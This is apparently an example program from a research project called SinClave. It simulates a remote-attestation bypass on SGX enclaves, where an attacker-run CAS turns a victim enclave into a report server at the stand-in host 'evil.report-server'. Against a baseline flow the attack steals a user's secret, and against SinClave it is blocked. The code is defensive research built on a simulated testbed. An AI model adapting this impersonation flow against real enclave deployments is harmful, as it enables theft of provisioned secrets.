// Attack demo: the §3 remote-attestation bypass, live — first against the
// baseline (SCONE-style) flow where it steals the user's secrets, then
// against SinClave where every stage is refused.
//
// Build & run:  cmake --build build && ./build/examples/attack_demo
#include <cstdio>

#include "attack/impersonator.h"
#include "attack/report_server.h"
#include "core/signer.h"
#include "crypto/sha256.h"
#include "runtime/starter.h"
#include "server/cas_server.h"
#include "workload/testbed.h"

using namespace sinclave;

namespace {

constexpr const char* kReportServerAddr = "evil.report-server";

struct Deployment {
  sgx::SigStruct sigstruct;
  std::optional<core::BaseHash> base_hash;
};

Deployment deploy(workload::Testbed& bed, bool sinclave) {
  const core::EnclaveImage image = core::EnclaveImage::synthetic(
      "python-interpreter", 4 * sgx::kPageSize, 8 * sgx::kPageSize);
  const core::Signer signer(&bed.user_signer());

  cas::Policy policy;
  policy.session_name = "user-ai-app";
  policy.expected_signer =
      crypto::sha256(bed.user_signer().public_key().modulus_be());
  policy.config.program = "user-app";
  policy.config.secrets["model-license-key"] = to_bytes("EXTREMELY-SECRET");

  Deployment d;
  if (sinclave) {
    const auto si = signer.sign_sinclave(image);
    d.sigstruct = si.sigstruct;
    d.base_hash = si.base_hash;
    policy.require_singleton = true;
    policy.base_hash = si.base_hash;
  } else {
    const auto si = signer.sign_baseline(image);
    d.sigstruct = si.sigstruct;
    policy.expected_mr_enclave = si.sigstruct.enclave_hash;
  }
  bed.cas().install_policy(policy);
  return d;
}

core::EnclaveImage victim_image() {
  return core::EnclaveImage::synthetic("python-interpreter",
                                       4 * sgx::kPageSize, 8 * sgx::kPageSize);
}

}  // namespace

int main() {
  std::printf("== SinClave attack demo: remote attestation bypass ==\n");

  // ------------------------------------------------------------------
  std::printf("\n--- Phase 1: attacking the BASELINE flow ---\n");
  {
    workload::Testbed bed(workload::TestbedConfig{.seed = 7});
    attack::register_report_server(bed.programs());
    bed.programs().register_program("user-app", [](runtime::AppContext& ctx) {
      ctx.output = "user app";
      return 0;
    });
    const Deployment d = deploy(bed, /*sinclave=*/false);
    std::printf("[user]     deployed 'user-ai-app' pinned to MRENCLAVE %s...\n",
                d.sigstruct.enclave_hash.hex().substr(0, 16).c_str());

    // Attacker runs their own CAS and configures the victim interpreter
    // into a report server. Nothing of this shows in the measurement.
    auto attacker_rng = bed.child_rng("attacker");
    cas::CasService attacker_cas(
        &bed.attestation(), crypto::Ed25519KeyPair::generate(attacker_rng),
        bed.child_rng("attacker-cas"));
    attacker_cas.add_signer_key(bed.user_signer());
    server::CasServer attacker_server(&attacker_cas);
    attacker_server.bind(bed.network(), "cas.attacker");
    cas::Policy coerced;
    coerced.session_name = "coerced";
    coerced.expected_signer =
        crypto::sha256(bed.user_signer().public_key().modulus_be());
    coerced.expected_mr_enclave = d.sigstruct.enclave_hash;
    coerced.config.program = attack::kReportServerProgram;
    coerced.config.args = {kReportServerAddr};
    attacker_cas.install_policy(coerced);

    const auto enclave =
        runtime::start_enclave(bed.cpu(), victim_image(), d.sigstruct);
    auto rt = bed.make_runtime(runtime::RuntimeMode::kBaseline);
    runtime::RunOptions o;
    o.cas_address = "cas.attacker";
    o.cas_identity = attacker_cas.identity();
    o.session_name = "coerced";
    const auto boot = rt.run(enclave, o);
    std::printf("[attacker] victim enclave booted as report server: %s\n",
                boot.ok ? "YES" : boot.error.c_str());

    attack::TeeImpersonator imp(&bed.network(), &bed.qe(), kReportServerAddr,
                                bed.child_rng("imp"));
    const auto attempt = imp.steal_config(bed.cas_address(),
                                          bed.cas().identity(), "user-ai-app");
    if (attempt.succeeded()) {
      std::printf("[attacker] ATTACK SUCCEEDED - stolen secret: %s\n",
                  to_string(attempt.stolen_config->secrets.at(
                                "model-license-key"))
                      .c_str());
      std::printf("[cas]      ...and the user's CAS saw a perfectly valid "
                  "attestation (verdict: %s)\n",
                  to_string(bed.cas().last_attest_verdict()));
    } else {
      std::printf("[attacker] attack failed (%s) — unexpected!\n",
                  attempt.failure.c_str());
      return 1;
    }
  }

  // ------------------------------------------------------------------
  std::printf("\n--- Phase 2: the same attack against SINCLAVE ---\n");
  {
    workload::Testbed bed(workload::TestbedConfig{.seed = 8});
    attack::register_report_server(bed.programs());
    bed.programs().register_program("user-app", [](runtime::AppContext& ctx) {
      ctx.output = "user app";
      return 0;
    });
    const Deployment d = deploy(bed, /*sinclave=*/true);
    std::printf("[user]     deployed 'user-ai-app' as a singleton session\n");

    auto attacker_rng = bed.child_rng("attacker");
    cas::CasService attacker_cas(
        &bed.attestation(), crypto::Ed25519KeyPair::generate(attacker_rng),
        bed.child_rng("attacker-cas"));
    attacker_cas.add_signer_key(bed.user_signer());
    server::CasServer attacker_server(&attacker_cas);
    attacker_server.bind(bed.network(), "cas.attacker");

    // Variant (a): boot the common enclave against the attacker's CAS.
    const auto enclave =
        runtime::start_enclave(bed.cpu(), victim_image(), d.sigstruct);
    auto rt = bed.make_runtime(runtime::RuntimeMode::kSinclave);
    runtime::RunOptions o;
    o.cas_address = "cas.attacker";
    o.cas_identity = attacker_cas.identity();
    o.session_name = "coerced";
    const auto boot = rt.run(enclave, o);
    std::printf("[attacker] (a) coerce common enclave: %s\n",
                boot.ok ? "succeeded (BUG!)" : boot.error.c_str());

    // Variant (b): get a real token, redirect the singleton to attacker CAS.
    const auto start = runtime::start_singleton_enclave(
        bed.cpu(), bed.network(), bed.cas_address(), victim_image(),
        d.sigstruct, "user-ai-app");
    const auto boot2 = rt.run(start.enclave, o);
    std::printf("[attacker] (b) redirect singleton to attacker CAS: %s\n",
                boot2.ok ? "succeeded (BUG!)" : boot2.error.c_str());

    // Variant (c): impersonate with a fresh token but no matching enclave.
    const auto start2 = runtime::start_singleton_enclave(
        bed.cpu(), bed.network(), bed.cas_address(), victim_image(),
        d.sigstruct, "user-ai-app");
    attack::TeeImpersonator imp(&bed.network(), &bed.qe(),
                                "nothing-listening", bed.child_rng("imp"));
    const auto attempt =
        imp.steal_config(bed.cas_address(), bed.cas().identity(),
                         "user-ai-app", start2.token);
    std::printf("[attacker] (c) impersonate with fresh token: %s\n",
                attempt.succeeded() ? "succeeded (BUG!)"
                                    : attempt.failure.c_str());

    if (boot.ok || boot2.ok || attempt.succeeded()) return 1;
    std::printf("\nAll attack variants blocked. The user's secret stayed "
                "at the CAS.\n");
  }
  return 0;
}
